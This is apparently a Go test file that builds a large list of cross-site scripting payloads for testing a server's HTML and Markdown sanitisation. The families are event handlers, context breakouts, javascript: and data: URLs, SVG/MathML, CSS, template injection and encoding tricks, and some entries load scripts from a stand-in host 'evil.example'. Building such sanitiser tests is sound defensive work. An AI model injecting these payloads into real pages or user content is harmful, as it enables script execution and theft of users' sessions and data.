package server_test

import (
	"fmt"
	"os"
	"strings"
)

// payloads returns texts of an attacker, by family. Each calls alert if it is run.
func payloads() []string {
	var all []string
	for _, family := range []func() []string{handlers, breakouts, schemes, drawings, styles, templates, markdown, spellings} {
		all = append(all, family()...)
	}
	out := make([]string, len(all))
	for i := range all { // mix the families, so that every part has some of each
		out[i] = all[i*97%len(all)]
	}
	return out
}

// enough returns the number of payloads for each field: all of them if
// BACKPACK_TEST_SOAK is set, otherwise so many that fields get different ones.
func enough(all []string) int {
	if os.Getenv("BACKPACK_TEST_SOAK") != "" {
		return len(all)
	}
	return 310
}

// handlers returns elements that run an attribute by themselves or on a touch.
func handlers() (out []string) {
	tags := strings.Fields("img svg body video audio details input iframe marquee object embed style link select textarea button form math track source dialog a table frameset image isindex template noscript xmp x")
	events := []string{"onerror", "onload", "onfocus autofocus tabindex=1", "ontoggle open", "onmouseover", "onanimationstart style=animation:x",
		"onbeforetoggle popover", "onpointerrawupdate", "onscrollend", "oncontentvisibilityautostatechange style=content-visibility:auto"}
	gaps := []string{" ", "/", "\t", "\n", "\f", "  ", "/x/", "\r"}
	quotes := []string{"%s", "'%s'", `"%s"`, "`%s`", " = %s"}
	codes := []string{"alert(1)", "alert`1`", "&#97;lert(1)", "\\u0061lert(1)", "top['al'+'ert'](1)", "(alert)(1)", "javascript:alert(1)"}
	for i, tag := range tags {
		for j := range 5 {
			n := i*5 + j
			event, rest, _ := strings.Cut(events[n%len(events)], " ")
			code := fmt.Sprintf(quotes[n%len(quotes)], codes[n%len(codes)])
			eq := "="
			if strings.HasPrefix(code, " =") {
				eq = ""
			}
			gap := gaps[n%len(gaps)]
			out = append(out, "<"+tag+gap+"src=x"+gap+rest+gap+event+eq+code+">")
		}
	}
	return out
}

// breakouts returns texts that end their context and then run.
func breakouts() (out []string) {
	ends := []string{`">`, "'>", "-->", "--!><!--x-->", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "]]>", "\x00", "`>",
		"</select></option>", "</svg></math>", "</template>",
		"</a></p></div></main>", "\r\n\r\n<html>", "&quot;&gt;", "%22%3e", `\">`, "\"'`>", "/>", "?>", "%>", "</bdi></b>"}
	runs := []string{"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", `" onmouseover="alert(1)" x="`, "' autofocus onfocus='alert(1)' x='"}
	for _, end := range ends {
		for _, run := range runs {
			out = append(out, end+run)
		}
	}
	return out
}

// schemes returns addresses that run.
func schemes() (out []string) {
	for _, u := range []string{"javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)", "javascript\t:alert(1)",
		"javascript:%0aalert(1)", "javascript://%0aalert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106avascript:alert(1)", "&#x6a;avascript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
		"data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "vbscript:alert(1)", "blob:x", "view-source:x",
		"filesystem:x", "//evil.example/x", "\\\\evil.example\\x", "https://evil.example/\"onmouseover=alert(1)//", "https://evil.example@javascript:alert(1)", "https:javascript:alert(1)", "feed:javascript:alert(1)"} {
		out = append(out, u, "<a href=\""+u+"\">x</a>", "["+"x]("+u+")", "<form action='"+u+"'><button>x</form>")
	}
	return append(out, "<base href=//evil.example/>", "<base href=javascript:/a/-alert(1)//>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=Set-Cookie content=a=b>",
		"<link rel=import href=//evil.example/x>", "<link rel=prefetch href=//evil.example/x>", "<button formaction=javascript:alert(1)>x", "<input type=image src=x formaction=javascript:alert(1)>", "<a ping=//evil.example/x href=#>x</a>")
}

// drawings returns texts that run in SVG and MathML.
func drawings() []string {
	return []string{"<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />", "<svg><script xlink:href=data:,alert(1)></script>", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a>",
		"<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><animate attributeName=href values=javascript:alert(1)>", "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\">",
		"<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><title><img src=x onerror=alert(1)></title></svg>", "<svg><desc></svg><img src=x onerror=alert(1)>",
		"<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<math href=javascript:alert(1)>x", "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>", "<svg><image href=//evil.example/x>",
		"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">", "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">", "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>alert(1)</handler>"}
}

// styles returns texts that run, or load from elsewhere, by CSS.
func styles() []string {
	return []string{"<style>@import'//evil.example/x'</style>", "<style>*{background:url(//evil.example/x)}</style>", "<style onload=alert(1)></style>", "<p style=\"background:url('//evil.example/x')\">", "<p style=width:expression(alert(1))>",
		"<p style=behavior:url(#x)>", "<p style=-moz-binding:url(//evil.example/x)>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=stylesheet href=data:,*{x:expression(alert(1))}>", "</style><script>alert(1)</script>",
		"<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>", "<div style=position:fixed;inset:0;z-index:9><a href=//evil.example>x</a></div>", "url(javascript:alert(1))", "expression(alert(1))", "@import 'javascript:alert(1)';"}
}

// templates returns texts that run if a page is rendered twice.
func templates() []string {
	return []string{"{{alert(1)}}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{%alert(1)%}", "{{.}}", "{{template \"x\"}}", "{{printf \"%s\" \"<script>alert(1)</script>\"}}", "[[alert(1)]]", "@{alert(1)}",
		"<template><script>alert(1)</script></template>", "<x v-html=\"'<img src=x onerror=alert(1)>'\">", "<x ng-init=alert(1)>", "*{alert(1)}", "$(alert(1))", "`;alert(1)//", "';alert(1)//", "\\';alert(1)//", "</script><script>alert(1)//", "\u2028alert(1)//", "%s%n%x", "{n}{name}{0}"}
}

// markdown returns texts that run if Markdown lets them through.
func markdown() []string {
	var out []string
	for _, wrap := range []string{"**%s**", "> %s", "    %s", "```\n%s\n```", "| a |\n|---|\n| %s |", "# %s", "- %s", "`%s`", "[%s](https://a.example)", "![%s](https://a.example/x.png)", "[^1]\n\n[^1]: %s", "<!-- %s -->"} {
		for _, run := range []string{"<img src=x onerror=alert(1)>", "[x](javascript:alert(1))"} {
			out = append(out, fmt.Sprintf(wrap, run))
		}
	}
	return append(out, "![x](javascript:alert(1))", "![x](https://evil.example/x.png)", "![x](//evil.example/x.png \"a\" onerror=alert(1))", "<javascript:alert(1)>", "[x]: javascript:alert(1)\n\n[x]", "[a](javascript&colon;alert(1))", "[a](&#106;avascript:alert(1))",
		"[a](\\x01javascript:alert(1))", "[a](<javascript:alert(1)>)", "[a](https://a.example 'x' onclick='alert(1))", "[a](data:text/html,<script>alert(1)</script>)", "<https://a.example/\"onmouseover=alert(1)>", "https://a.example/\"><script>alert(1)</script>",
		"[a](https://a.example/`onclick=alert(1)`)", "*[x]: <script>alert(1)</script>", "~~<script>alert(1)</script>~~", "<details open ontoggle=alert(1)>\n\n**x**\n\n</details>", strings.Repeat("[", 100)+"a"+strings.Repeat("](javascript:alert(1))", 100))
}

// spellings returns texts that some parsers misread.
func spellings() []string {
	return []string{"<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1);//<</script>", "<ScRiPt/x>alert(1)</sCrIpT>", "<script\n>alert(1)</script\n>", "<script\x00>alert(1)</script>", "\xff<script>alert(1)</script>", "\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe",
		"\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u2039script\u203aalert(1)", "\ufeff<script>alert(1)</script>", "\u202e<script>alert(1)</script>", "\u200b<\u200bscript>alert(1)</script>", "<\u017fcript>alert(1)</\u017fcript>", "<scr\u0131pt>alert(1)</scr\u0131pt>",
		"&#60;script&#62;alert(1)&#60;/script&#62;", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "&#x3c;img src=x onerror=alert(1)&#x3e;", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253Ealert(1)",
		"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\x1b$B<script>alert(1)</script>\x1b(B", "<img src=`x`onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<x onclick=alert(1)>x</x>", "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
		"<?xml-stylesheet href='javascript:alert(1)'?>", "<![CDATA[<script>alert(1)</script>]]>", "<script>alert(1)", "<script src=//evil.example/x.js></script>", "<script type=module>import'//evil.example/x.js'</script>", "<iframe src=//evil.example/></iframe>", "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>"}
}
